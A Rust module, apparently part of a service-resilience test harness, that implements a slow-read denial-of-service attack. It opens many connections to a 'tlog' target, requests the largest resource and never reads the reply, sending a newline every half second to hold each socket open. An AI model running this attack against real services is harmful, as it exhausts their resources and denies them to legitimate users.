//! The largest answer that there is, asked for on many streams and connections and read by nobody.

use std::time::Duration;

use tokio::io::AsyncWriteExt;
use tokio::task::JoinSet;

use crate::filling::BUNDLE;
use crate::unread;
use crate::world::Target;

pub(crate) async fn attack(target: &'static Target) {
    let mut connections = JoinSet::new();
    for stranger in 80..80 + CONNECTIONS {
        connections.spawn(unread::connection(target, "tlog", BUNDLE, stranger));
        connections.spawn(over_http1(target, stranger));
    }
    while let Some(ended) = connections.join_next().await {
        ended.unwrap();
    }
}

/// It ends when the service has ended the connection. To read would tell, but would take of the answer; what is written to
/// a connection that was ended fails.
async fn over_http1(target: &Target, stranger: u8) {
    let Ok(mut stream) = target.connect_narrow("tlog", stranger).await else {
        return;
    };
    let request = format!("GET {BUNDLE} HTTP/1.1\r\nHost: localhost\r\n\r\n");
    let mut written = stream.write_all(request.as_bytes()).await;
    while written.is_ok() {
        tokio::time::sleep(PROBE).await;
        written = stream.write_all(b"\n").await;
    }
}

const CONNECTIONS: u8 = 12;
const PROBE: Duration = Duration::from_millis(500);
